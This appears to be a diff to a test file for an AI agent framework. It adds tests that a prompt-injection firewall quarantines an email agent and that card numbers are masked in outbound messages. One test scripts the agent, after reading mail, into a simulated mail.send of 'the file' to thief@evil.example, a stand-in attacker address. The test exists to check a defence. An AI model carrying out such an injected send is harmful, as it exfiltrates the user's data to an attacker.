@@ -16,9 +16,17 @@ from milliwatt.agent.policy import ApprovalRequest, FlowPolicy
 from milliwatt.agent.provenance import Origin, Provenance
 from milliwatt.agent.runner import Agent, PolicyDenied, Quarantined, RunResult, ToolCalled
 from milliwatt.agent.runtime import Runtime
-from milliwatt.config import AgentConfig, EmailConfig, ModelConfig, PolicyConfig, Settings
+from milliwatt.config import (
+    AgentConfig,
+    EmailConfig,
+    ModelConfig,
+    PolicyConfig,
+    Settings,
+    ShieldConfig,
+)
 from milliwatt.models.base import Message, ModelResponse, ToolCall, ToolSpec
 from milliwatt.models.fake import FakeModel
+from milliwatt.shield.firewall import InjectionDetector
 from milliwatt.tools.email import email_config
 from milliwatt.tools.registry import Effect, ToolRegistry, tool
 
@@ -350,3 +358,31 @@ def test_the_runtime_gives_each_agent_its_policy_and_the_hooks(tmp_path: Path) -
         assert email_config("mailer").smtp_host == "127.0.0.1"
     finally:
         runtime.close()
+
+
+def test_the_prompt_firewall_quarantines_by_default_and_can_be_turned_off(tmp_path: Path) -> None:
+    def settings(**shield: object) -> Settings:
+        return Settings(data_dir=tmp_path, shield=ShieldConfig(**shield))  # type: ignore[arg-type]
+
+    runtime = Runtime(settings())
+    try:
+        assert isinstance(runtime.detector, InjectionDetector)
+        send = ToolCall("s", "mail.send", {"to": "thief@evil.example", "body": "the file"})
+        policy = FlowPolicy(PolicyConfig(), detector=runtime.detector)
+        _result, events = run(obeying(READ, send), "Summarize my mail", policy)
+        assert any(isinstance(e, Quarantined) for e in events) and DONE == []
+    finally:
+        runtime.close()
+    off = Runtime(settings(firewall=False))
+    try:
+        assert off.detector is None
+    finally:
+        off.close()
+
+
+def test_secrets_in_outbound_arguments_are_masked_before_the_tool_runs() -> None:
+    card = "4111 1111 1111 1111"
+    send = ToolCall("s", "mail.send", {"to": "x@y.example", "body": f"my card is {card}"})
+    run(obeying(None, send), "hello")
+    ((name, args),) = DONE
+    assert name == "mail.send" and card not in args["body"] and "my card is" in args["body"]
